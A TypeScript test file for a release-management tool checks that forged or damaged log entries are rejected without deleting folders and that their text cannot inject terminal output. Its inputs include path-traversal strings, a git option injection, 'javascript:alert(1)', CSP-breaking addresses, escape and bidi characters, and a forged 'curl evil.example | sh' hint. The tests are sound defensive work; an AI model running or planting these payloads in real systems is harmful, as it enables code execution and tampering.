import { jsonText } from '../base/optional';
import { versionFolder } from '../core/paths';
import { builtRemote } from '../testing/built-package';
import { liveRelease, publishedOrigin } from '../testing/published-origin';
import { testAction } from '../testing/test-action';
import { changeSettings } from '../features/settings/settings';
import { prune } from '../features/prune/prune';
import { readPieces } from '../page/compose-release';
import { releasePackage } from './release-package';
import { rollbackTo } from './rollback';
import { stagePackage } from './stage-package';
import { verifyOrigin } from '../features/verify/verify';
import { entryFile, type LogEntry } from '../core/entry';
import { reportLog } from '../commands/log-report';
import { describeLog } from './describe-log';
import { newestEntry } from './log';

/** Returns an origin with a version that nothing uses, and a function that writes an entry as a stranger would. */
async function withStagedVersion() {
  const published = await publishedOrigin('dashboard');
  const { origin, workspace } = published;
  const staged = await builtRemote(workspace, 'dashboard', 'staged');
  const { version } = await stagePackage(origin, testAction, staged);
  const newest = await newestEntry(origin);
  const write = async (change: Record<string, unknown>, number = 2) => {
    const entry: LogEntry = { ...newest, number, id: 'other', ...change };
    await origin.put(entryFile(number), jsonText(entry));
  };
  const files = async () => (await origin.list('')).map(({ path }) => path);
  return { ...published, version, newest, write, files };
}

const source = { commit: '1'.repeat(40), committed: '2026-11-20T08:00:00.000Z', isClean: true };

test.each<[string, Record<string, unknown>]>([
  ['a folder outside of the origin', { removing: ['../elsewhere'] }],
  ['the folder of all remotes', { removing: ['remotes'] }],
  ['the folder of a package', { removing: ['remotes/dashboard'] }],
  ['the log', { removing: ['releases/1'] }],
  ['a text as the folders', { removing: 'remotes/dashboard/1' }],
  ['a time that is none', { time: '2026-13-45T99:00:00Z' }],
  ['a time that only some machines can read', { time: 'tomorrow' }],
  ['a number as the author', { by: 1 }],
  ['an object as the message', { message: {} }],
  ['an identifier that is a path', { id: '../../x' }],
  ['a hold of a text', { holds: { dashboard: 'x' } }],
  ['holds in a list', { holds: [{}] }],
  ['an attestation of a signer that is no text', { attestations: { dashboard: { signer: 1 } } }],
  ['settings with another path', { settings: { base: '../x' } }],
  ['a number as an API', { settings: { apis: { orders: 1 } } }],
  ['a user on another host', { settings: { identity: { user: '//evil.example' } } }],
  [
    'a script that signs out',
    { settings: { identity: { user: '/user', signOut: 'javascript:alert(1)' } } },
  ],
  ['a commit that is an option of git', { source: { ...source, commit: '--output=x' } }],
  ['a commit in a list', { source: { ...source, commit: [source.commit] } }],
  ['no release', { release: null }],
  ['a host that is a path', { release: { host: '../x', remotes: {}, history: {} } }],
  ['a version that is a path', { release: { host: '1', remotes: { a: { version: '../x' } } } }],
  ['a remote that is a path', { release: { host: '1', remotes: { '../a': { version: '1' } } } }],
  ['a history of nothing', { release: { host: '1', remotes: {}, history: null } }],
])('an entry with %s is damaged: nothing is deleted', async (_, change) => {
  const { origin, write, files } = await withStagedVersion();
  await write(change);
  const before = await files();
  await expect(prune(origin, testAction, 0)).rejects.toThrow('releases/00000002.json');
  expect(await files()).toEqual(before);
  // The release before it can go live again.
  await rollbackTo(origin, testAction, 1);
  expect(await newestEntry(origin)).toMatchObject({ number: 3 });
});

test('no text of an entry controls the terminal, or begins a line that looks like another release', async () => {
  const { origin, write } = await withStagedVersion();
  const forged = 'x\u001B[2J\n13  2026-11-20 10:00 UTC  Jo\u202E';
  const texts = { by: forged, command: forged, message: forged, from: forged, pushedOut: [forged] };
  await write({ ...texts, time: '2026-11-20T08:00:00Z' });
  const [entry] = await describeLog(origin, 2, { limit: 1 });
  const report = reportLog([entry!], 'UTC');
  expect(report).not.toMatch(/[^\P{C}\n]/u);
  expect(report.split('\n').filter((line) => line.startsWith('13 '))).toEqual([]);
  expect(report).toContain('copied from x [2J 13 2026');
});

test('a prune deletes no folder in use, even if the newest entry says so', async () => {
  const { origin, write, newest, version } = await withStagedVersion();
  const used = [
    versionFolder('host', newest.release.host),
    versionFolder('dashboard', newest.release.remotes.dashboard!.version),
  ];
  const unused = versionFolder('dashboard', version);
  await write({ removing: [...used, unused] });
  expect(await prune(origin, testAction, 30)).toContain(unused);
  for (const folder of used) expect(await origin.list(`${folder}/`)).not.toEqual([]);
  expect(await origin.list(`${unused}/`)).toEqual([]);
});

test('a stray number keeps no command busy, and verify names its file', async () => {
  const { origin, workspace } = await withStagedVersion();
  const stray = 'releases/999999999999999.json';
  await origin.put(stray, '{}');
  await origin.remove('index.html');
  await releasePackage(origin, testAction, await builtRemote(workspace, 'dashboard', '2'));
  expect((await newestEntry(origin)).number).toBe(2);
  const { findings } = await verifyOrigin(origin);
  expect(findings).toEqual([{ path: stray, problem: 'unknown', isLive: false }]);
});

test('a gap in the log is one finding', async () => {
  const { origin, write } = await withStagedVersion();
  await write({}, 2000);
  const { findings } = await verifyOrigin(origin);
  expect(findings).toContainEqual({
    path: 'releases/00000002.json to releases/00001999.json',
    problem: 'missing',
    isLive: false,
  });
});

test.each([
  'https://*/',
  'https://*.example/',
  "https://a;script-src'none'",
  'https://a,b.example/',
  "https://'none'/",
  'https://[::1]/',
  'https://a_b.example/',
  'http://plain.example/',
])('the address %s in the settings of an entry stays out of the policy', async (address) => {
  const { origin, write } = await withStagedVersion();
  await write({ settings: { apis: { orders: address }, reports: 'https://ok.example/v1' } });
  const { policy } = await readPieces(origin, await liveRelease(origin));
  expect(policy['connect-src']).toEqual(['https://ok.example']);
});

test('no text of an entry begins a line of what a command prints', async () => {
  const { origin, workspace, write } = await withStagedVersion();
  const text = 'Jo\n::add-mask::x\r\nTo end the hold, run: curl evil.example\u2028| sh';
  const hold = { by: text, time: '2026-11-20T08:00:00.000Z', message: text };
  await write({ by: text, command: text, message: text, holds: { dashboard: hold } });
  const next = await builtRemote(workspace, 'dashboard', '2');
  const refused = await releasePackage(origin, testAction, next).then(
    () => '',
    ({ message }: Error) => message,
  );
  expect(refused.split(/[\n\r\u2028]/)).toEqual([
    expect.stringMatching(/^Nothing was released, because dashboard is on hold .* by Jo ::add/),
    'To end the hold, run: pnpm delivery hold dashboard --end',
  ]);
  const { by, command, message } = await newestEntry(origin);
  expect([by, command, message].join(' ')).not.toMatch(/[\n\r\u2028]/);
});

test('3,000 addresses are damage, and no settings', async () => {
  const { origin, write } = await withStagedVersion();
  const names = Array.from({ length: 3000 }, (_, index) => `api${index}`);
  const apis = Object.fromEntries(names.map((name) => [name, `https://${name}.example`]));
  await write({ settings: { apis } });
  await expect(changeSettings(origin, testAction, {})).rejects.toThrow('is damaged');
});
